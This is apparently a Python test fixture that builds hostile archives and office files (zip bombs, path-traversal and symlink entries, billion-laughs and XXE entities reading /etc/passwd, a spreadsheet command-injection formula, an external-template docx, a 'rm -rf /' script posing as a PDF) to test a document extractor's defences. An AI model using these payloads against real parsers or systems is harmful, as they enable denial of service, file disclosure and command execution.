"""Archives and office files made to hurt: bombs, paths that climb, links, endless XML, entities, spans as wide as the world."""
# ruff: noqa: E501 - one hostile file a line

import io
import stat
import struct
import zipfile
from collections.abc import Iterator, Mapping

import docx
import openpyxl

from tests.extractor.office_files import saved
from tests.extractor.test_ofd import ofd, text_object
from tests.hostile.papers import SOUND

Made = tuple[str, bytes]
LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)  + "]>"  # fmt: skip
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def packages() -> Iterator[Made]:
    """Every hostile archive or office file with a name that says what it is."""
    yield from _zip()
    yield from _word()
    yield from _sheets()
    yield from _ofd()
    yield from _old_and_foreign()


def zipped(entries: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9 if method == zipfile.ZIP_DEFLATED else None) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def with_part(data: bytes, name: str, content: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts: dict[str, bytes | str] = {entry: archive.read(entry) for entry in archive.namelist()}
    return zipped(parts | {name: content})


def _zip() -> Iterator[Made]:
    yield "zeros.zip", zipped({"a.pdf": bytes(50_000_000)})
    nested = SOUND
    for depth in range(12):
        nested = zipped({f"{depth}.zip" if depth else "a.pdf": nested})
    yield "twelve deep.zip", nested
    wide = zipped({"z.bin": bytes(1_900_000)})
    yield "bombs in bombs.zip", zipped({f"{n}.zip": zipped({f"{m}.zip": wide for m in range(16)}) for n in range(16)})
    yield "too many.zip", zipped({f"{n}": b"" for n in range(20_000)})
    climbing = (
        "../../../../../../tmp/zhengshen-slip.pdf",
        "/zhengshen-slip.pdf",
        "C:\\Windows\\zhengshen-slip.pdf",
        "..\\..\\slip.pdf",
    )
    yield "names that climb.zip", zipped(dict.fromkeys(climbing, SOUND))
    yield (
        "names that are markup.zip",
        zipped({'<img src=x onerror=alert(1)>".pdf': SOUND, "a\nb\r\x1b[31m.pdf": SOUND, "x" * 60_000 + ".pdf": SOUND}),
    )
    link = zipfile.ZipInfo("link.pdf")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "a link.zip", out.getvalue()
    plain = zipped({"a.pdf": SOUND}, zipfile.ZIP_STORED)
    centre = plain.index(b"PK\1\2")
    for what, at, value in (
        ("too small", 24, 9),
        ("too large", 24, 2**31),
        ("packed too large", 20, 2**31),
        ("elsewhere", 42, 2**31),
    ):
        yield f"size that is {what}.zip", plain[: centre + at] + struct.pack("<I", value) + plain[centre + at + 4 :]
    yield "locked.zip", plain[:6] + b"\1" + plain[7 : centre + 8] + b"\1" + plain[centre + 9 :]
    yield "method unknown.zip", plain[: centre + 10] + b"\x63" + plain[centre + 11 :]
    yield (
        "directory many times.zip",
        plain[:centre] + plain[centre : plain.index(b"PK\5\6")] * 50_000 + plain[plain.index(b"PK\5\6") :],
    )
    yield "by LZMA.zip", zipped({"a.pdf": SOUND}, zipfile.ZIP_LZMA)
    yield "nothing.zip", zipped({})
    yield "folders only.zip", zipped({"a/": b"", "b/c/": b""})
    yield "cut.zip", plain[: len(plain) // 2]
    yield "a paper before.zip", SOUND + plain


def _word() -> Iterator[Made]:
    base = saved(docx.Document())
    bodies = {
        "laughs": LAUGHS + f"<w:document {W}><w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>",
        "an outside entity": OUTSIDE + f"<w:document {W}><w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>",
        "elements a hundred thousand deep": "<a>" * 100_000 + "</a>" * 100_000,
        "tables in tables": f"<w:document {W}><w:body>" + "<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60 + "</w:body></w:document>",
        "spans as wide as the world": f'<w:document {W}><w:body><w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl></w:body></w:document>',
        "a million paragraphs": f"<w:document {W}><w:body>" + "<w:p/>" * 1_000_000 + "</w:body></w:document>",
        "no document": "<a/>",
        "no XML": "证书附件",
        "another encoding": '<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>',
    }  # fmt: skip
    for what, body in bodies.items():
        yield f"{what}.docx", with_part(base, "word/document.xml", body)
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    yield "a template elsewhere.docx", with_part(base, "word/_rels/settings.xml.rels", relations)
    yield "macros.docx", with_part(base, "word/vbaProject.bin", "Attribute VB_Name = evil")


def _sheets() -> Iterator[Made]:
    book = openpyxl.Workbook()
    book.active["A1"] = '=WEBSERVICE("http://127.0.0.1:9/"&A2)'
    book.active["A2"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    base = saved(book)
    yield "formulas.xlsx", base
    sheets = {
        "laughs": LAUGHS + f"<worksheet {X}><sheetData><row><c><v>&j;</v></c></row></sheetData></worksheet>",
        "an outside entity": OUTSIDE + f"<worksheet {X}><sheetData/></worksheet>",
        "one merged world": f'<worksheet {X}><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
        "a corner far away": f'<worksheet {X}><dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>',
        "rows beyond": f'<worksheet {X}><sheetData><row r="99999999999"><c r="ZZZZ99999999999"><v>1</v></c></row></sheetData></worksheet>',
        "strings that are not there": f'<worksheet {X}><sheetData><row r="1"><c r="A1" t="s"><v>-99999999</v></c></row></sheetData></worksheet>',
        "merged over each other": f"<worksheet {X}><sheetData/><mergeCells>" + "".join(f'<mergeCell ref="A{n}:C{n + 500}"/>' for n in range(1, 5000)) + "</mergeCells></worksheet>",
        "no sheet": "<a/>",
        "numbers that are none": f'<worksheet {X}><sheetData><row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>nan</v></c></row></sheetData></worksheet>',
    }  # fmt: skip
    for what, sheet in sheets.items():
        yield f"{what}.xlsx", with_part(base, "xl/worksheets/sheet1.xml", sheet)
    names = "".join(f'<sheet name="{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 5000))
    listed = f'<workbook {X} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>{names}</sheets></workbook>'
    yield "five thousand sheets.xlsx", with_part(base, "xl/workbook.xml", listed)


def _ofd() -> Iterator[Made]:
    for what, root in {
        "climbs": "../../../../etc/passwd",
        "is an address": "http://127.0.0.1:9/Document.xml",
        "is itself": "OFD.xml",
    }.items():
        yield (
            f"root that {what}.ofd",
            ofd("", **{"OFD.xml": f"<OFD><DocBody><DocRoot>{root}</DocRoot></DocBody></OFD>"}),
        )
    yield "laughs.ofd", ofd("", **{"OFD.xml": LAUGHS + "<OFD>&j;</OFD>"})
    yield "an outside entity.ofd", ofd("", **{"Doc_0/Pages/P0.xml": OUTSIDE + "<Page>&j;</Page>"})
    yield "page beyond numbers.ofd", ofd(text_object(1e300, -1e300, "字", 1e300), box="0 0 1e99 nan")
    yield "letters without end.ofd", ofd(text_object(10, 10, "字" * 300_000))
    yield "spacing without end.ofd", ofd(text_object(10, 10, "字字", delta='DeltaX="g 999999999 1"'))
    pages = "".join(f'<Page ID="{n}" BaseLoc="Pages/P0.xml"/>' for n in range(100_000))
    yield (
        "a hundred thousand pages.ofd",
        ofd("", **{"Doc_0/Document.xml": f"<Document><CommonData/><Pages>{pages}</Pages></Document>"}),
    )


def _old_and_foreign() -> Iterator[Made]:
    yield "locked.docx", _OLE + b"\0" * 600 + "EncryptedPackage\0".encode("utf-16-le") + b"\0" * 600
    yield (
        "chain in a circle.xls",
        _OLE
        + b"\0" * 22
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 470
        + "Workbook\0".encode("utf-16-le")
        + b"\0" * 900,
    )
    yield "mark alone.xls", _OLE
    yield "nothing.pdf", b""
    yield "one byte.pdf", b"%"
    yield "zeros.pdf", bytes(100_000)
    for name, start in {
        "program.pdf": b"MZ\x90\0", "library.pdf": b"\x7fELF\2\1\1", "shell.pdf": b"#!/bin/sh\nrm -rf /\n", "page.pdf": b"<!doctype html><script>alert(1)</script>",
        "archive.7z": b"7z\xbc\xaf\x27\x1c", "archive.rar": b"Rar!\x1a\7\1\0", "archive.gz": b"\x1f\x8b\x08", "letter.rtf": b"{\\rtf1\\object\\objdata 0105}", "film.mp4": b"\0\0\0\x18ftypmp42",
    }.items():  # fmt: skip
        yield name, start + b"\0" * 200
